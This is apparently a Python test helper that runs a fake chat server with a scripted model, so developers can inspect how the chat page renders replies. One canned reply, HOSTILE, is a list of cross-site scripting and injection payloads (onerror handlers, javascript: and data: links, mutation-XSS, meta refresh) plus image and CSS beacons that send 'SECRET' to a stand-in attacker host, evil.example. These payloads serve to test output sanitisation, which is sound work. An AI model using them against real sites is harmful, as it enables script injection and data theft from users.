"""The web product on a free port with a scripted model: for looking at the chat page.

    python -m tests.appliance.chat.fake_server [--port 0] [--delay 0.03]

It prints the password of bob and alice. It keeps everything in a temporary folder, or in
APPLIANCE_DATA_DIR. What a message says chooses what the model does: queue, fail,
slow, long, table, code, hostile, hold, cut (ends by its length after six words).
"""

import argparse
import asyncio
import os
import re
import tempfile
from collections.abc import AsyncIterator
from dataclasses import dataclass

import django

os.environ.setdefault("DJANGO_SETTINGS_MODULE", "appliance.settings")
os.environ.setdefault("APPLIANCE_DATA_DIR", tempfile.mkdtemp(prefix="blockhouse-look-"))

django.setup()

from daphne.endpoints import build_endpoint_description_strings  # noqa: E402
from daphne.server import Server  # noqa: E402
from django.core.management import call_command  # noqa: E402

from appliance.accounts.models import User  # noqa: E402
from appliance.accounts.services import user_create  # noqa: E402
from appliance.asgi import application  # noqa: E402
from appliance.serving.gateway import gateway_install  # noqa: E402
from appliance.serving.types import (  # noqa: E402
    Delta,
    Finished,
    GenerationEvent,
    Queued,
    Reading,
)
from tests.appliance.base import PASSWORD  # noqa: E402
from tests.appliance.fake_backend import FakeBackend, FakeStream  # noqa: E402

CODE = """Here is a version that accepts both forms and says which rows it could not read:

```python
from decimal import Decimal

def read_amount(text: str) -> Decimal:
    # "1.250,00", "1,250,00" and "1,250.00" all mean 1250.00
    text = text.strip().replace(".", ",")
    whole, mark, cents = text.rpartition(",")
    if mark and len(cents) == 2:
        return Decimal(whole.replace(",", "") + "." + cents)
    return Decimal(text.replace(",", ""))
```

The loop keeps every row it cannot read, with its line number, so you can look at them.
"""
TABLE = """In the 480 rows you attached, 14 are dropped. There are **two causes**:

| Cause | Example | Rows | Fix |
| --- | --- | ---: | --- |
| Date that does not exist | `31.02.2025` | 9 | Ask the sender |
| Comma in an amount | `1,250,00` | 5 | Parse both forms |

## What to do

1. Fix the second cause in `read_amount`.
2. List the first one:
   - it cannot be *guessed* safely
   - so the script should report it

> Dropping rows in silence is worse than failing.

See [the manual](https://example.org/manual) for more.
"""
HOSTILE = """Look: <img src=x onerror="document.title='owned'">
and <script>document.title='owned'</script>

<svg onload="document.title='owned'"></svg>
<iframe srcdoc="<script>parent.document.title='owned'</script>"></iframe>
<iframe src="javascript:parent.document.title='owned'"></iframe>
<math><mtext><style><img src=x onerror="document.title='owned'"></style></mtext></math>
<form action="https://evil.example/f"><button>go</button></form>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">
<details open ontoggle="document.title='owned'">x</details>
<link rel="prefetch" href="https://evil.example/prefetch"><video poster="https://evil.example/v.png">
<p style="background:url(https://evil.example/css.png)">styled</p>

[one](javascript:alert(1)) [two](JaVa&#10;script:alert(1))
[three](data:text/html;base64,PHNjcmlwdD4=)
[good](https://example.org/page) ![p](https://evil.example/x.png?d=SECRET) ![r][ref]

[ref]: https://evil.example/ref.png?d=SECRET

```mermaid
graph TD; A["<img src=x onerror=alert(1)>"]
```

$\\href{javascript:alert(1)}{x}$ and the end.
"""


@dataclass
class SlowStream(FakeStream):
    delay_s: float = 0.03

    async def events(self) -> AsyncIterator[GenerationEvent]:
        *_, last = self.request.messages
        goes_on = self.request.continue_final_message
        asked = str((self.request.messages[-2] if goes_on else last)["content"]).lower()
        text = next(
            (t for w, t in (("table", TABLE), ("code", CODE), ("hostile", HOSTILE)) if w in asked),
            "Paris is the capital of France. It stands on the Seine.",
        )
        if "long" in asked:
            text = "\n\n".join(f"Paragraph {n}. " + TABLE for n in range(12))
        if goes_on:
            text = text.removeprefix(str(last["content"]))
        if "queue" in asked:
            for ahead in (2, 1):
                yield Queued(ahead=ahead, estimated_wait_s=3.0 * ahead)
                await asyncio.sleep(40 * self.delay_s)
        for done in range(0, 101, 20):
            yield Reading(done, 100, 0)
            await asyncio.sleep(self.delay_s)
        reason, error = "stop", None
        for number, word in enumerate(re.findall(r"\s*\S+|\s+$", text)):
            if self.closed or self.aborted_because:
                reason = "abort"
                break
            if "fail" in asked and number == 6:
                reason, error = "error", "The connection to the model broke after 6 tokens."
                break
            if "cut" in asked and number == 6:
                reason = "length"
                break
            if "hold" in asked and number == 6:
                await self.backend.released.wait()
            self.completion_tokens += 1
            yield Delta(word, self.completion_tokens)
            await asyncio.sleep(self.delay_s * (8 if "slow" in asked else 1))
        yield Finished(
            finish_reason=reason,
            prompt_tokens=self.prompt_tokens,
            cached_tokens=0,
            completion_tokens=self.completion_tokens,
            queue_s=0.0,
            ttft_s=0.42,
            duration_s=0.42 + self.completion_tokens * self.delay_s,
            error=error,
        )


@dataclass
class SlowBackend(FakeBackend):
    delay_s: float = 0.03

    async def generate(self, prepared):
        stream = await super().generate(prepared)
        slow = SlowStream(
            backend=self,
            request=stream.request,
            request_id=stream.request_id,
            prompt_tokens=stream.prompt_tokens,
            limit=stream.limit,
            delay_s=self.delay_s,
        )
        self.running[slow.request_id] = slow
        return slow


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, default=0)
    parser.add_argument("--delay", type=float, default=0.03)
    options = parser.parse_args()
    call_command("migrate", verbosity=0)
    if not User.objects.exists():
        user_create("bob", password=PASSWORD)
        user_create("alice", password=PASSWORD, is_admin=True)
    gateway_install(SlowBackend(delay_s=options.delay))
    server = Server(
        application,
        endpoints=build_endpoint_description_strings(host="127.0.0.1", port=options.port),
        ready_callable=lambda: print(f"ready; bob has the password {PASSWORD}", flush=True),
    )
    server.run()


if __name__ == "__main__":
    main()
